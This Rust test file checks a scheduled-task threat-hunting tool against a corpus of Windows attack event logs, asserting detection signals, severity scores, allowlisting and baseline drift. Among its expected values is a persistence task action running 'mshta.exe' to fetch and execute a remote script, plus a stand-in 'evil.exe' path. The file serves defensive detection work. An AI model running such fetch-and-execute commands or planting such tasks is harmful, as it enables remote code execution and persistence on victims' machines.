//! Task definitions, scores and audits on the real corpus (the scheduled-task issue's acceptance).

use std::path::Path;
use taskhunt_events::Event;
use taskhunt_tasks::inventory::{self, Baseline, Drift, TaskEntry};
use taskhunt_tasks::score::{ScoringConfig, Severity};
use taskhunt_tasks::sources::records_from_event;

fn read(dir: &Path, files: &[&str]) -> Vec<Event> {
    files.iter().flat_map(|f| taskhunt_events::read_file(&dir.join(f)).events).collect()
}

fn entry<'a>(entries: &'a [TaskEntry], name: &str) -> &'a TaskEntry {
    entries
        .iter()
        .find(|e| e.task_name == name)
        .unwrap_or_else(|| panic!("no task {name}: {:?}", entries.iter().map(|e| &e.task_name).collect::<Vec<_>>()))
}

fn signals(e: &TaskEntry) -> Vec<&str> {
    e.reasons.iter().map(|r| r.signal.as_str()).collect()
}

#[test]
fn every_task_event_yields_a_definition() {
    let Some(dir) = taskhunt_events::testing::evtx_samples("every_task_event_yields_a_definition") else { return };
    let mut events = Vec::new();
    taskhunt_events::read_paths(&[dir], &Default::default(), |b| events.extend(b.events), |_, _| {});
    let task_events: Vec<&Event> = events.iter().filter(|e| &*e.channel == "Security" && (4698..=4702).contains(&e.event_id)).collect();
    // 11 Security 4698-4702 events in the corpus (counted in the evtx_dump output).
    assert_eq!(task_events.len(), 11);
    for e in task_events {
        let recs = records_from_event(e);
        assert_eq!(recs.len(), 1, "{}", e.report_id());
        let def = recs[0].definition.as_ref().unwrap_or_else(|| panic!("no definition from {}: {:?}", e.report_id(), recs[0].problem));
        let content = e.text("TaskContent").or_else(|| e.text("TaskContentNew")).unwrap_or_default();
        assert_eq!(def.actions.is_empty(), content.is_empty(), "{}", e.report_id());
        assert!(def.origin.account.is_some() && def.origin.logon_id.is_some());
        assert_eq!(def.name, e.text("TaskName").unwrap());
    }
}

#[test]
fn atexec_task_is_critical_with_its_reasons() {
    let Some(dir) = taskhunt_events::testing::evtx_samples("atexec_task_is_critical_with_its_reasons") else { return };
    let events = read(&dir, &["Execution/temp_scheduled_task_4698_4699.evtx", "Lateral Movement/LM_ScheduledTask_ATSVC_target_host.evtx"]);
    let entries = inventory::from_events(&events, &ScoringConfig::default());
    let t = entry(&entries, "\\CYAlyNSS");
    assert!(t.severity >= Severity::High, "{} {:?}", t.score, t.reasons);
    let s = signals(t);
    for want in
        ["hidden", "user_writable_path", "privileged_user_writable", "quick_delete", "remote_creation", "random_name", "tool_fingerprint"]
    {
        assert!(s.contains(&want), "{want} missing from {s:?}");
    }
    // Remote creation joins 4624 type 3 and 5145 IPC$\atsvc on the 4698's logon id 0x17e2d2.
    let remote = t.reasons.iter().find(|r| r.signal == "remote_creation").unwrap();
    assert!(
        remote.detail.contains("0x17e2d2") && remote.detail.contains("4624 type 3") && remote.detail.to_lowercase().contains("atsvc"),
        "{}",
        remote.detail
    );
    assert!(t.hidden);
    assert_eq!(t.principal.as_deref(), Some("S-1-5-18"));
    assert_eq!(t.created_by.as_deref(), Some("EXAMPLE\\Administrator"));
}

#[test]
fn remote_update_with_shared_logon_id() {
    let Some(dir) = taskhunt_events::testing::evtx_samples("remote_update_with_shared_logon_id") else { return };
    let events = read(&dir, &["Lateral Movement/remote task update 4624 4702 same logonid.evtx"]);
    let entries = inventory::from_events(&events, &ScoringConfig::default());
    let t = entry(&entries, "\\LMST");
    let s = signals(t);
    assert!(s.contains(&"remote_creation") && s.contains(&"user_writable_path") && s.contains(&"hidden"), "{s:?}");
    assert!(t.reasons.iter().any(|r| r.detail.contains("172.16.66.142")), "the network logon's source address is named");
    assert!(t.severity >= Severity::High);
}

#[test]
fn privesc_task_and_benign_microsoft_task() {
    let Some(dir) = taskhunt_events::testing::evtx_samples("privesc_task_and_benign_microsoft_task") else { return };
    let events = read(
        &dir,
        &[
            "Privilege Escalation/PrivEsc_SeImpersonatePriv_enabled_back_for_upnp_localsvc_4698.evtx",
            "Credential Access/ACL_ForcePwd_SPNAdd_User_Computer_Accounts.evtx",
        ],
    );
    let entries = inventory::from_events(&events, &ScoringConfig::default());
    let p = entry(&entries, "\\FullPowersTask");
    let s = signals(p);
    assert!(s.contains(&"user_writable_path") && s.contains(&"quick_delete"), "{s:?}");
    assert!(p.severity >= Severity::Medium);
    let benign = entry(&entries, "\\Microsoft\\Windows\\SoftwareProtectionPlatform\\SvcRestartTask");
    assert!(benign.severity <= Severity::Low, "{} {:?}", benign.score, benign.reasons);
    assert!(signals(benign).contains(&"allowlisted"), "the allowlist lowers it visibly");
}

#[test]
fn schtasks_command_lines_become_scored_tasks_with_their_creator() {
    let Some(dir) = taskhunt_events::testing::evtx_samples("schtasks_command_lines_become_scored_tasks") else { return };
    let events = read(
        &dir,
        &[
            "Execution/exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx",
            "AutomatedTestingTools/Malware/rundll32_cmd_schtask.evtx",
            "Execution/sysmon_exec_from_vss_persistence.evtx",
        ],
    );
    let entries = inventory::from_events(&events, &ScoringConfig::default());
    let m = entry(&entries, "\\MSOFFICE_");
    assert_eq!(m.actions, "mshta.exe https://hotelesms.com/Injection.txt");
    assert!(m.triggers.contains("repeating every 1 hour"), "{}", m.triggers);
    assert!(signals(m).contains(&"lolbin") && signals(m).contains(&"url_or_ip"));
    // The creating process is the schtasks parent, mshta (pid 2432).
    assert!(m.reasons.iter().any(|r| r.signal == "unusual_creator" && r.detail.contains("mshta.exe")), "{:?}", m.reasons);
    let v = entry(&entries, "\\eyNQLDvUSuvVPg");
    assert!(v.actions.contains("HarddiskVolumeShadowCopy7"));
    assert!(signals(v).contains(&"user_writable_path") && signals(v).contains(&"frequent_repetition"));
    assert!(entries.len() >= 3);
}

#[test]
fn baseline_round_trip_reports_a_changed_action() {
    let Some(dir) = taskhunt_events::testing::evtx_samples("baseline_round_trip_reports_a_changed_action") else { return };
    let events = read(&dir, &["Lateral Movement/remote task update 4624 4702 same logonid.evtx"]);
    let entries = inventory::from_events(&events, &ScoringConfig::default());
    let saved = Baseline::from_inventory(&entries);
    let text = serde_json::to_string(&saved).unwrap();
    let loaded: Baseline = serde_json::from_str(&text).unwrap();
    assert!(inventory::compare(&loaded, &saved).is_empty());
    let mut changed = saved.clone();
    let t = changed.tasks.iter_mut().find(|t| t.task_name == "\\LMST").unwrap();
    let old = t.actions.clone();
    t.actions = "C:\\Users\\Public\\evil.exe".into();
    let extra = taskhunt_tasks::inventory::BaselineTask { task_name: "\\New".into(), ..t.clone() };
    changed.tasks.push(extra);
    let drift = inventory::compare(&loaded, &changed);
    assert!(drift.contains(&Drift::Changed {
        host: "01566s-win16-ir.threebeesco.com".into(),
        task_name: "\\LMST".into(),
        parts: vec![("actions".into(), old, "C:\\Users\\Public\\evil.exe".into())],
    }));
    assert!(drift.iter().any(|d| matches!(d, Drift::New { task_name, .. } if task_name == "\\New")));
    let back = inventory::compare(&changed, &loaded);
    assert!(back.iter().any(|d| matches!(d, Drift::Vanished { task_name, .. } if task_name == "\\New")));
}
